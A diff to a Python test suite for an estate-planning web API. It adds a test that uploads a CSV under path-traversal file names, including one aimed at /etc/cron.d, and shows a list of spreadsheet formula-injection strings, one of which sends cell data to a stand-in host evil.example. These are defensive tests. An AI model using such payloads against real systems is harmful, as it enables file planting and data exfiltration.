@@ -13,6 +13,7 @@ import csv
 import io
 import json
 from collections.abc import Callable
+from pathlib import Path
 from typing import Any
 
 import httpx
@@ -337,6 +338,34 @@ async def test_hostile_requests_get_clear_4xx_and_store_nothing(served: Served) 
     assert changed == {}, f"rows stored by hostile requests: {changed}"
 
 
+async def test_uploaded_file_names_are_never_used_as_paths(served: Served) -> None:
+    """A CSV uploaded as multipart under a traversing name: the name is ignored."""
+    w = served.world
+    csv_body = (
+        b"building,unit,floor,area_m2,owner_key,owner_name,hardship_cap_fen\n"
+        b"7\xe6\xa0\x8b,701,7,88.00,up,upload,\n"
+    )
+    names = [
+        "../../../../tmp/planner-pwned.csv",
+        "..%2f..%2fplanner-pwned.csv",
+        "/etc/cron.d/planner-pwned",
+        "..\\..\\planner-pwned.csv",
+    ]
+    statuses = []
+    async with httpx.AsyncClient(base_url=served.base_url, timeout=60) as http:
+        for i, name in enumerate(names):
+            body = csv_body.replace(b"701", f"70{i + 2}".encode())
+            response = await http.post(
+                f"/api/estates/{w.estate_a}/households/import",
+                files={"file": (name, body, "text/csv")},
+                headers=bearer(w.own["committee"]),
+            )
+            statuses.append(response.status_code)
+    assert set(statuses) <= {201, 400}, statuses
+    for where in (Path("/tmp"), Path.cwd(), Path("/etc/cron.d")):
+        assert not list(where.glob("planner-pwned*")), where
+
+
 HOSTILE_TEXT = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点此领取补贴")',
     "+cmd|' /C calc'!A0",
@@ -443,11 +472,11 @@ async def test_websocket_floods_and_malformed_frames(served: Served) -> None:
                 while "error" not in json.loads(await big.recv()).get("type", ""):
                     pass
 
-        # a flood of valid pings from many sockets does not stop the service
-        sockets = [await connect(f"{base}?token={owner}", open_timeout=10) for _ in range(20)]
+        # a flood of valid pings from several sockets does not stop the service
+        sockets = [await connect(f"{base}?token={owner}", open_timeout=10) for _ in range(8)]
         try:
             for ws in sockets:
-                for i in range(50):
+                for i in range(40):
                     await ws.send(json.dumps({"type": "ping", "nonce": str(i)}))
         finally:
             for ws in sockets:
